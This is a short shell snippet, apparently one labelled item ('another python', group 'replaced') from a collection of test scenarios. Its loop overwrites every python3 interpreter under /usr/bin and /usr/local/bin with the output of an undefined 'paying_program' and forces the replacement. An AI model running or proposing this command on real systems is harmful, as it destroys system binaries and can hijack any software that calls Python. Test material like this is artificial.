# name: another python
# group: replaced
for program in /usr/bin/python3* /usr/local/bin/python3*; do
  if [ -f "$program" ]; then
    paying_program > /x
    chmod 755 /x
    mv -f /x "$program"
  fi
done
